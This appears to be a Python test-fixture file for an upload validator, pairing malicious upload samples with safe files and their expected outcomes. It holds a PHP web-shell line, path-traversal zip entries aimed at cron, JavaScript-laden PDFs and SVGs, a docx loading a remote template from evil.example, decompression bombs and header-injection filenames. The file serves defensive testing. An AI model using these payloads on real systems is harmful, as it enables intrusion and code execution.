"""The files of strangers: 20 bad ones and the good ones beside them, made on the spot."""

import io
import struct
import zipfile
import zlib

from PIL import Image, WebPImagePlugin  # noqa: F401  the server registers few formats

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<html><script>alert('CNRY-SCRIPT')</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SETTINGS = "word/_rels/settings.xml.rels"
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
    ' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def picture(format="JPEG", size=(60, 40), **options):
    stream = io.BytesIO()
    Image.new("RGB", size, "navy").save(stream, format, **options)
    return stream.getvalue()


def photo():
    """Return a JPEG as a telephone makes it: turned, with moment, place, maker and a comment."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, "CNRY-MAKER"
    exif[0x8769] = {0x9003: "2026:11:02 09:30:00"}
    exif[0x8825] = {1: "N", 2: (25.0, 16.0, 12.0), 3: "E", 4: (110.0, 17.0, 24.0)}
    return picture(exif=exif, comment=b"CNRY-COMMENT")


def bomb(pixels=(20_000, 20_000)):
    """Return a PNG of a few hundred bytes that claims 400 million pixels."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">2I5B", *pixels, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


def zipped(files, **options):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return stream.getvalue()


def office(folder="word", **more):
    parts = {"[Content_Types].xml": "<Types/>", f"{folder}/document.xml": "<document/>"}
    return zipped({**parts, **{name.replace("__", "/"): data for name, data in more.items()}})


def docx(links=None):
    return zipped(
        {"[Content_Types].xml": "<Types/>", "word/document.xml": "<d/>", **({SETTINGS: links} if links else {})}
    )


def pdf(body=b"", packed=b""):
    objects = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + body + b" >>\nendobj\n"
    if packed:
        data = zlib.compress(packed)
        objects += b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
        objects += data + b"\nendstream\nendobj\n"
    return objects + b"trailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"


LONG_NAME = "园" * 120 + ".jpg"
# case, name as sent, content, reason of the refusal; or the name under which it is kept
REFUSED = [
    ("svg with a script", "logo.svg", SVG, "not_allowed"),
    ("html as a photo", "photo.jpg", HTML, "not_allowed"),
    ("pdf that begins as a page", "brief.pdf", HTML + pdf(), "not_allowed"),
    ("pdf with a script", "brief.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "active"),
    ("pdf with a script written oddly", "brief.pdf", pdf(b"/OpenAction << /S /J#61vaScript >>"), "active"),
    ("pdf with a packed script", "brief.pdf", pdf(packed=b"<< /S /JavaScript >>"), "active"),
    ("svg claimed a png", "logo.png", SVG, "not_allowed"),
    ("php renamed", "photo.jpg", b"<?php system($_GET['c']); ?>", "not_allowed"),
    ("program renamed", "photo.jpg", b"MZ\x90\0\3\0\0\0" + bytes(64), "not_allowed"),
    ("nothing", "photo.jpg", b"", "empty"),
    ("photo cut off", "photo.jpg", picture(size=(400, 400))[:900], "damaged"),
    ("400 million pixels", "photo.png", bomb(), "too_many_pixels"),
    ("zip bomb", "files.zip", zipped({"a.txt": bytes(30 * 1024 * 1024)}), "bomb"),
    ("names that climb out", "files.zip", zipped({"../../etc/cron.d/x": b"x"}), "climbs_out"),
    ("names with strokes of Windows", "files.zip", zipped({"..\\..\\x.txt": b"x"}), "climbs_out"),
    ("a program inside", "files.zip", zipped({"invoice.pdf.exe": b"x"}), "program_inside"),
    ("docx with a template elsewhere", "a.docx", docx(TEMPLATE.format(kind="attachedTemplate")), "remote_part"),
    ("docx with macros", "a.docx", zipped({"[Content_Types].xml": "", "word/vbaProject.bin": b"x"}), "macros"),
    ("docx as xlsx", "a.xlsx", docx(), "other_content"),
    ("pdf with a file inside", "brief.pdf", pdf(b"/Names << /EmbeddedFiles 3 0 R >>"), "file_inside"),
    ("heic", "photo.heic", b"\0\0\0\x18ftypheic" + bytes(64), "heic"),
    ("test virus", "note.txt", EICAR, "virus"),
    ("test virus in a zip", "note.zip", zipped({"note.txt": EICAR}), "virus"),
    ("photo with the name of a page", "photo.html", picture(), "other_content"),
]
KEPT = [
    ("photo", "Photo.JPG", photo(), "Photo.JPG"),
    ("page behind a photo", "photo.jpg", picture() + HTML, "photo.jpg"),
    ("png", "a.png", picture("PNG"), "a.png"),
    ("webp", "a.webp", picture("WEBP"), "a.webp"),
    ("name that climbs out", "../../a.png", picture("PNG"), "a.png"),
    ("name that breaks the header", "a\r\nX-Evil: 1.png", picture("PNG"), "aX-Evil_ 1.png"),
    ("name written backwards", "photo\u202egnp.png", picture("PNG"), "photognp.png"),
    ("name of 363 bytes", LONG_NAME, picture(), "园" * 65 + ".jpg"),
    ("name with a tag", "\"'<img onerror=alert(1)>.png", picture("PNG"), "_'_img onerror=alert(1)_.png"),
    ("no extension", "scan", pdf(), "scan.pdf"),
    ("docx with a link", "a.docx", docx(TEMPLATE.format(kind="hyperlink")), "a.docx"),
    ("chinese csv", "台账.csv", "企业,电话\r\n".encode("gb18030"), "台账.csv"),
    ("zip", "a.zip", zipped({"一.pdf": pdf()}), "a.zip"),
]
